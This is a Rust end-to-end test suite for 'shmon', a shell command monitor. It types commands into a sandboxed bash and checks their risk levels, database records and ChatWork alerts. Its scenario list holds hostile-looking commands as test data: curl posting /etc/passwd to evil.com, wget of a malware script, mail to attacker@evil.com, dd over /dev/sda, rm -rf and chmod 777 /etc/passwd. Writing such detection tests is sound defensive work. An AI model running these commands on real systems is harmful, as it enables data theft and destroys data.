//! The main job, end to end: a real interactive bash, watched by what `shmon init` lays down, with a ChatWork on loopback.
//!
//! Every program that is typed is a stand-in in a folder of its own, and PATH holds nothing else, so that nothing of
//! what is typed does anything.

#[path = "../../shmon-core/tests/support/http.rs"]
#[allow(dead_code, unreachable_pub, reason = "each test binary uses the part that it needs")]
mod http;
mod pty;

use http::{Reply, Request, Server};
use pty::{PROMPT, Pty};
use rusqlite::Connection;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// The longest that a record or a message may take before a test gives up.
const PATIENCE: Duration = Duration::from_secs(120);

/// Waits until `check` gives something.
fn eventually<T>(what: &str, mut check: impl FnMut() -> Option<T>) -> T {
    let end = Instant::now() + PATIENCE;
    loop {
        if let Some(found) = check() {
            return found;
        }
        assert!(Instant::now() < end, "waited in vain for {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Programs that the tests type; stand-ins that end at once.
const STANDINS: &str = "nmap ssh scp netstat ps who last rm dd chmod curl wget mail ls cat grep make sleep";

struct Host {
    dir: tempfile::TempDir,
    shmon: PathBuf,
}

impl Host {
    /// A user's home with stand-ins for every program that will be typed.
    fn new() -> Host {
        let dir = tempfile::tempdir().expect("a folder");
        let bin = dir.path().join("bin");
        std::fs::create_dir(&bin).expect("a folder");
        for name in STANDINS.split(' ') {
            let file = bin.join(name);
            std::fs::write(&file, "#!/bin/sh\nexit 0\n").expect("a stand-in");
            std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).expect("its mode");
        }
        let rc = format!("PATH={}\nPS1='{PROMPT}'\n", bin.display());
        std::fs::write(dir.path().join(".bashrc"), rc).expect(".bashrc");
        Host { dir, shmon: PathBuf::from(env!("CARGO_BIN_EXE_shmon")) }
    }

    fn monitor(&self) -> PathBuf {
        self.dir.path().join("monitor")
    }

    fn command(&self, program: impl AsRef<std::ffi::OsStr>) -> Command {
        let mut command = Command::new(program);
        command.env_clear().env("HOME", self.dir.path()).env("TERM", "dumb").env("TZ", "Asia/Tokyo");
        command.env("PATH", self.dir.path().join("bin")).current_dir(self.dir.path());
        command
    }

    fn shmon(&self, args: &[&str]) -> Output {
        self.command(&self.shmon).args(args).output().expect("shmon")
    }

    /// `shmon` that must succeed; its standard output.
    fn shmon_ok(&self, args: &[&str]) -> String {
        let output = self.shmon(args);
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(output.status.success(), "{args:?}: {text}{}", String::from_utf8_lossy(&output.stderr));
        text
    }

    fn init(&self, api: &str) {
        let token = self.dir.path().join("token.txt");
        std::fs::write(&token, "s3cret-t0ken\n").expect("a token");
        let api = format!("notify.chatwork.api_base={api}");
        let token = token.to_str().expect("a path");
        self.shmon_ok(&[
            "init",
            "--yes",
            "--shell",
            "bash",
            "--chatwork-room",
            "403373420",
            "--chatwork-token-file",
            token,
            "--set",
            &api,
            "--set",
            "name=Sharelab SSH Monitor",
            "--set",
            "lang=ja",
        ]);
    }

    /// An interactive bash with a prompt, whose programs are the stand-ins and nothing else.
    fn bash(&self) -> Bash {
        let home = self.dir.path();
        let (home_text, bin) = (home.to_str().expect("a path"), home.join("bin"));
        let env = [
            ("HOME", home_text),
            ("TERM", "dumb"),
            ("TZ", "Asia/Tokyo"),
            ("PATH", bin.to_str().expect("a path")),
        ];
        let mut bash = Bash { pty: Pty::start(&["/bin/bash", "-i"], home, &env) };
        bash.pty.prompt(0).expect("a prompt");
        bash.line("type -P rm dd chmod");
        for name in ["rm", "dd", "chmod"] {
            assert!(bash.pty.text().contains(&format!("{}/{name}", bin.display())), "{}", bash.pty.text());
        }
        bash
    }

    fn database(&self) -> Connection {
        Connection::open(self.monitor().join("db/monitor.db")).expect("the database")
    }

    /// `id`, `command`, `risk_level` of every row, when there are `count`.
    fn rows(&self, count: usize) -> Vec<(i64, String, String)> {
        eventually(&format!("{count} rows"), || {
            let db = self.database();
            let mut query =
                db.prepare("SELECT id, command, risk_level FROM command_logs ORDER BY id").ok()?;
            let rows = query.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?))).ok()?;
            let rows: Vec<_> = rows.collect::<Result<_, _>>().ok()?;
            (rows.len() >= count).then_some(rows)
        })
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.monitor().join("logs/command_monitor.log")).unwrap_or_default()
    }
}

/// An interactive bash on a terminal.
struct Bash {
    pty: Pty,
}

impl Bash {
    /// Types a line and waits for the prompt after it.
    fn line(&mut self, text: &str) {
        let before = self.pty.length();
        self.pty.send(&format!("{text}\r"));
        self.pty.prompt(before).expect("a prompt");
    }

    fn exit(mut self) {
        self.pty.send("exit\r");
        self.pty.gone().expect("the end of the shell");
    }
}

impl Drop for Host {
    fn drop(&mut self) {
        // The recorder that the shells started: by its own process id, and only while it is ours.
        let Ok(pid) = std::fs::read_to_string(self.monitor().join("run/awake")) else { return };
        let Ok(pid) = pid.trim().parse::<i32>() else { return };
        let ours = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&ours).contains("daemon")
            && let Some(pid) = rustix::process::Pid::from_raw(pid)
        {
            let _ = rustix::process::kill_process(pid, rustix::process::Signal::TERM);
        }
    }
}

/// A ChatWork that gives out message ids from 1000 on.
fn chatwork() -> Server {
    let next = AtomicUsize::new(1000);
    Server::start(move |request: &Request| {
        if request.method == "GET" {
            return Reply::json(200, &serde_json::json!([]));
        }
        let id = next.fetch_add(1, Ordering::SeqCst).to_string();
        Reply::json(200, &serde_json::json!({ "message_id": id }))
    })
}

/// The ticket's scenarios: what is typed, and its level.
const SCENARIOS: &[(&str, &str)] = &[
    ("nmap -sS target_server", "high"),
    ("ssh user@target", "high"),
    ("scp file user@target:/", "high"),
    ("netstat -tuln", "high"),
    ("ps aux", "high"),
    ("who", "high"),
    ("last", "high"),
    ("rm -rf /important/data", "critical"),
    ("dd if=/dev/zero of=/dev/sda", "critical"),
    ("chmod 777 /etc/passwd", "critical"),
    ("curl -X POST http://evil.com --data @/etc/passwd", "high"),
    ("wget http://evil.com/malware.sh", "high"),
    ("mail attacker@evil.com < /etc/hostname", "high"),
];

/// Noise: stored, but neither logged nor posted.
const EXCLUDED: &[&str] =
    &["ls -la", "pwd", "cd /tmp", "echo hello", "cat notes.txt", "grep nmap notes.txt", "history 1"];

#[test]
fn a_command_is_classified_stored_logged_and_posted() {
    let host = Host::new();
    let server = chatwork();
    host.init(&server.url());
    let mut bash = host.bash();
    for (command, _) in SCENARIOS {
        bash.line(command);
    }
    for command in EXCLUDED {
        bash.line(command);
    }
    bash.line("");
    bash.exit();

    // The check of the stand-ins comes first, `exit` last.
    let rows = host.rows(SCENARIOS.len() + EXCLUDED.len() + 2);
    assert_eq!(rows.len(), SCENARIOS.len() + EXCLUDED.len() + 2, "{rows:#?}");
    let find = |command: &str| {
        let found: Vec<_> = rows.iter().filter(|(_, c, _)| c == command).collect();
        assert_eq!(found.len(), 1, "{command:?} once in {rows:#?}");
        found[0].clone()
    };
    let directory = host.dir.path().to_str().expect("a path").to_owned();
    let mut ids = std::collections::BTreeMap::new();
    for (command, level) in SCENARIOS {
        let (id, _, stored) = find(command);
        assert_eq!(&stored, level, "{command}");
        ids.insert(id, (*command, *level));
        let line = format!("Command monitored: {command} (Risk: {level}, DB ID: {id})");
        assert_eq!(host.log().matches(&line).count(), 1, "{line}\n{}", host.log());
        assert!(host.log().contains(&format!("Command saved to database: ID {id}\n")));
    }
    for command in EXCLUDED {
        assert_eq!(find(command).2, "low", "{command}");
        assert!(!host.log().contains(&format!("monitored: {command} ")), "{command} is noise");
    }

    for _ in 0..ids.len() {
        let request = server.request();
        assert_eq!((request.method.as_str(), request.path.as_str()), ("POST", "/rooms/403373420/messages"));
        assert_eq!(request.header("x-chatworktoken"), Some("s3cret-t0ken"));
        assert_eq!(request.header("content-type"), Some("application/x-www-form-urlencoded"));
        let body = request.form("body").expect("a body");
        let lines: Vec<&str> = body.lines().collect();
        let id: i64 = lines[8].strip_prefix("🗃️ Database ID: ").expect(&body).parse().expect(&body);
        let (command, level) = ids.remove(&id).expect("one message a row");
        let head = if level == "critical" { "🚨 CRITICAL ALERT" } else { "⚠️ HIGH RISK" };
        assert_eq!(lines[0], format!("{head} - Sharelab SSH Monitor"));
        assert!(lines[1].starts_with("📅 20") && lines[1].len() == "📅 2025-06-28 08:50:30".len(), "{body}");
        assert_eq!(lines[2], format!("👤 User: {}", shmon_core::identity::Identity::current().user));
        assert_eq!(lines[3], format!("🖥️ Server: {}", shmon_core::identity::host_name()));
        assert_eq!(lines[4], format!("📂 Directory: {directory}"));
        assert_eq!(lines[5], format!("⚡ Command: {command}"));
        assert_eq!(lines[6], format!("🛡️ Risk Level: {}", level.to_uppercase()));
        assert!(lines[7].starts_with("📋 Description: ") && !lines[7].is_ascii(), "{body}");
        assert_eq!(lines.len(), 9, "{body}");
        if command.starts_with("nmap") {
            assert_eq!(lines[7], "📋 Description: ポートスキャン");
        }
    }
    let sent = eventually("the ids of the messages", || {
        let db = host.database();
        let mut query = db.prepare("SELECT message_id FROM notifications WHERE state = 'sent'").ok()?;
        let ids: Vec<String> = query.query_map([], |r| r.get(0)).ok()?.collect::<Result<_, _>>().ok()?;
        (ids.len() == SCENARIOS.len()).then_some(ids)
    });
    for id in sent {
        let line = format!("ChatWork notification sent: {{\"message_id\":\"{id}\"}}");
        eventually(&line, || host.log().contains(&line).then_some(()));
    }
}

#[test]
fn the_tickets_queries_run_unchanged() {
    let host = Host::new();
    host.shmon_ok(&["init", "--yes", "--no-rc"]);
    for command in ["sqlite3 test command", "nmap -sV target.example.com", "rm -rf /tmp/dangerous"] {
        host.shmon_ok(&["record", "--session", "s1", "--time", "2025-06-28 08:50:30", command]);
    }
    let database = host.monitor().join("db/monitor.db");
    let query = |sql: &str| {
        let output = Command::new("sqlite3").arg(&database).arg(sql).output().expect("sqlite3");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).expect("text")
    };
    assert_eq!(
        query("SELECT id, command, risk_level, created_at\nFROM command_logs\nORDER BY id DESC LIMIT 10;"),
        "3|rm -rf /tmp/dangerous|critical|2025-06-28 08:50:30\n2|nmap -sV target.example.com|high|2025-06-28 08:50:30\n\
         1|sqlite3 test command|low|2025-06-28 08:50:30\n"
    );
    assert_eq!(
        query("SELECT risk_level, COUNT(*)\nFROM command_logs\nGROUP BY risk_level;"),
        "critical|1\nhigh|1\nlow|1\n"
    );
    let today =
        query("SELECT * FROM command_logs\nWHERE created_at LIKE '2025-06-28%'\nORDER BY created_at DESC;");
    assert_eq!(today.lines().count(), 3);
    let names =
        query("SELECT group_concat(name) FROM (SELECT name FROM pragma_table_info('command_logs') LIMIT 9);");
    assert_eq!(
        names.trim(),
        "id,session_id,command,command_hash,working_directory,execution_time,risk_level,is_sensitive,created_at"
    );
    assert_eq!(query("SELECT is_sensitive FROM command_logs ORDER BY id;"), "0\n1\n1\n");
}

/// What ChatWork does, the reason that the status shows, and whether it is delivered once ChatWork is well again.
#[test]
fn a_chatwork_that_fails_costs_no_prompt_and_loses_nothing() {
    for (fault, reason) in [("401", "401"), ("429", "429"), ("500", "500"), ("hang", ""), ("refused", "")] {
        let host = Host::new();
        let broken = Arc::new(Mutex::new(true));
        let state = broken.clone();
        let server = Server::start(move |request: &Request| {
            if !*state.lock().expect("the state") {
                let body = match request.method.as_str() {
                    "GET" => serde_json::json!([]),
                    _ => serde_json::json!({"message_id": "77"}),
                };
                return Reply::json(200, &body);
            }
            match fault {
                "401" => Reply::json(401, &serde_json::json!({"errors": ["Invalid API token"]})),
                "429" => {
                    Reply::json(429, &serde_json::json!({"errors": ["Rate limit"]})).with("retry-after", "1")
                }
                "500" => Reply::text(500, "no"),
                _ => Reply::Hang,
            }
        });
        let address = server.url();
        let dead = "http://127.0.0.1:9";
        host.init(if fault == "refused" { dead } else { &address });
        let mut bash = host.bash();
        bash.line("nmap -sV target.example.com");
        // The prompt is there while the delivery is still failing.
        let rows = host.rows(2);
        let id = rows.iter().find(|r| r.1.starts_with("nmap")).expect("the row").0;
        if !reason.is_empty() {
            eventually(&format!("the reason {reason}"), || {
                let status = host.shmon(&["notify", "status", "--format", "jsonl"]);
                String::from_utf8_lossy(&status.stdout).contains(reason).then_some(())
            });
        }
        let waiting: i64 = host
            .database()
            .query_row(
                "SELECT COUNT(*) FROM notifications WHERE command_id = ?1 AND state <> 'sent'",
                [id],
                |r| r.get(0),
            )
            .expect("a count");
        assert_eq!(waiting, 1, "{fault}: still in the outbox");

        *broken.lock().expect("the state") = false;
        if fault == "refused" {
            host.shmon_ok(&[
                "init",
                "--yes",
                "--no-rc",
                "--set",
                &format!("notify.chatwork.api_base={address}"),
            ]);
        }
        eventually(&format!("delivery after {fault}"), || {
            host.shmon(&["notify", "retry", "--dead"]);
            host.shmon(&["notify", "flush"]);
            let db = host.database();
            db.query_row("SELECT 1 FROM notifications WHERE command_id = ?1 AND state = 'sent'", [id], |_| {
                Ok(())
            })
            .ok()
        });
        bash.exit();
    }
}

#[test]
fn bad_input_is_named_and_the_prompt_works() {
    let host = Host::new();
    host.shmon_ok(&["init", "--yes"]);
    let refused = |args: &[&str], parts: &[&str]| {
        let output = host.shmon(args);
        let text = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{args:?}: {text}");
        for part in parts {
            assert!(text.contains(part), "{args:?}: {part:?} in {text}");
        }
    };
    let config = host.monitor().join("config.toml");
    let write = |text: &str| std::fs::write(&config, text).expect("the configuration");
    write("name = 'x'\n[store]\ndurabilty = 'full'\n");
    refused(&["classify", "ls"], &["config.toml", "line 3", "durabilty", "durability"]);
    write("[rules.levels]\n'no.such-rule' = 'high'\n");
    refused(&["classify", "ls"], &["no.such-rule"]);
    write("[rules.levels]\n'destruction.rm-recursive-force' = 'severe'\n");
    refused(&["classify", "ls"], &["line 2", "severe", "critical"]);
    refused(&["log", "--level", "severe"], &["severe"]);
    let mut bash = host.bash();
    bash.line("echo the prompt $((40+2)) works");
    bash.pty.see(0, "the prompt 42 works").expect("an answer");
    write("");

    let database = host.monitor().join("db/monitor.db");
    std::fs::write(&database, "this is no database, and long enough to be read as one".repeat(100))
        .expect("a file");
    let doctor = host.shmon(&["doctor"]);
    let text = String::from_utf8_lossy(&doctor.stdout).into_owned();
    assert!(text.contains("monitor.db"), "{text}");
    bash.line("echo and $((1+1)) again");
    bash.pty.see(0, "and 2 again").expect("an answer");
    bash.exit();

    let output =
        host.command(&host.shmon).args(["--home", "/proc/none", "record", "x"]).output().expect("shmon");
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("/proc/none"));
}

#[test]
fn set_up_twice_and_taken_away_leaves_no_trace() {
    let host = Host::new();
    let rc = host.dir.path().join(".bashrc");
    let before = b"PROMPT_COMMAND='x=$?'\n# \xb4\xc1\xbb\xfa, not UTF-8\nalias l=ls".to_vec();
    std::fs::write(&rc, &before).expect(".bashrc");
    let dry = host.shmon_ok(&["init", "--yes", "--dry-run"]);
    assert!(dry.contains("nothing was changed") && !host.monitor().exists());
    host.shmon_ok(&["init", "--yes"]);
    let once = std::fs::read(&rc).expect(".bashrc");
    host.shmon_ok(&["init", "--yes"]);
    assert_eq!(std::fs::read(&rc).expect(".bashrc"), once, "the second time changes nothing");
    assert!(once.starts_with(&before) && once.len() > before.len());
    host.shmon_ok(&["init", "--uninstall"]);
    assert_eq!(std::fs::read(&rc).expect(".bashrc"), before, "every byte is back");
    assert!(host.monitor().join("db/monitor.db").exists(), "the record stays");
}
